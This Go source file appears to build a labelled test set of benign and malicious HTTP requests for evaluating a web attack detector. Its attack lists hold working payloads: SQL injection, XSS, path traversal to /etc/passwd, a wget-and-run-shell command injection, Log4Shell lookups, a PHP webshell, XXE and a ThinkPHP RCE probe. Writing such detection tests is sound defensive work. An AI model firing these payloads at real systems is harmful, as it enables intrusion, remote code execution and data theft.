package main

import "net/url"

// builtin is a small set that is written for this program: ordinary requests
// that look odd, and the common attacks.
func builtin() set {
	s := set{name: "built-in", format: "json"}
	get := func(label uint8, uri string) {
		s.requests = append(s.requests, request{Method: "GET", URI: uri, Headers: plain(), label: label})
	}
	post := func(label uint8, uri, typ, body string) {
		s.requests = append(s.requests, request{Method: "POST", URI: uri, Headers: append(plain(), [2]string{"Content-Type", typ}), Body: body, label: label})
	}
	for _, uri := range normalTargets {
		get(0, uri)
	}
	for _, body := range normalDocuments {
		post(0, "/api/v1/orders", "application/json", body)
	}
	post(0, "/account/login", "application/x-www-form-urlencoded", "user=anna&password=S0mm3r%21%3D2026")
	post(0, "/contact", "application/x-www-form-urlencoded", "name=Sinead+O%27Connor&message=Do+you+ship+to+Cork%3F+I%27d+like+2+mugs+%26+a+filter.")
	for _, value := range attackValues {
		get(1, "/products?id="+url.QueryEscape(value))
		post(1, "/account/login", "application/x-www-form-urlencoded", "user="+url.QueryEscape(value)+"&password=x")
	}
	for _, uri := range attackTargets {
		get(1, uri)
	}
	return s
}

var normalTargets = []string{
	"/", "/index.html", "/robots.txt", "/favicon.ico", "/products/17", "/products?page=2&sort=price", "/blog/2026/01/how-we-roast",
	"/search?q=coffee+%26+cake", "/search?q=o%27brien+mug", "/search?q=select+roast+from+list", "/search?q=union+square+cafe",
	"/search?q=100%25+arabica", "/search?q=%E5%92%96%E5%95%A1", "/search?q=caf%C3%A9+cr%C3%A8me", "/search?q=c%2B%2B+vs+c%23",
	"/static/app.4f2a9c1e.js", "/img/hero-1280x720.webp?v=3", "/api/v1/items?filter=price%3E10&limit=50", "/api/v1/items?ids=1,2,3,4",
	"/login?next=%2Faccount%2Forders", "/callback?code=4%2F0AX4XfWh9&state=eyJub25jZSI6IjEyMyJ9", "/account/orders/2026-01-29",
	"/news?utm_source=mail&utm_campaign=week5&utm_content=header", "/.well-known/security.txt", "/map?lat=48.137&lon=11.575",
	"/download/manual-v2.1_(en).pdf", "/share?url=https%3A%2F%2Fshop.example%2Fproducts%2F17", "/a?t=dGhpcyBpcyBhIHRva2VuIG9mIGEgc2Vzc2lvbg==",
}

var normalDocuments = []string{
	`{"items":[{"id":17,"count":2},{"id":4,"count":1}],"note":"leave at the door; ring twice"}`,
	`{"query":"query Orders($first:Int){orders(first:$first){id total}}","variables":{"first":20}}`,
	`{"name":"Müller & Söhne","email":"info@mueller.example","comment":"5 > 4, isn't it?"}`,
	`{"events":[{"t":1769680800123,"type":"click","x":312,"y":88},{"t":1769680801456,"type":"scroll","y":900}]}`,
}

var attackValues = []string{
	"7' OR 1=1-- ", "7 UNION SELECT user,password FROM users-- -", "1' AND SLEEP(5)#", "admin'/*", "7;DROP TABLE orders--",
	"<script>alert(document.cookie)</script>", `"><img src=x onerror=alert(1)>`, "javascript:alert(1)//<svg/onload=alert(1)>",
	"../../../../etc/passwd", `..\..\..\windows\win.ini`, "php://filter/convert.base64-encode/resource=index.php", "http://203.0.113.66/shell.txt?",
	"127.0.0.1;cat /etc/passwd", "$(wget http://203.0.113.66/x.sh -O- | sh)", "|| ping -c 10 203.0.113.66 ||",
	"${jndi:ldap://203.0.113.66:1389/a}", "${${lower:j}ndi:${lower:l}dap://203.0.113.66/b}", "{{7*7}}{{config.items()}}",
	"<?php system($_GET['c']); ?>", `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
}

var attackTargets = []string{
	"/static/..%2f..%2f..%2f..%2fetc%2fpasswd", "/.git/config", "/.env", "/cgi-bin/.%2e/.%2e/.%2e/bin/sh",
	"/index.php?s=/index/think%5Capp/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id",
}
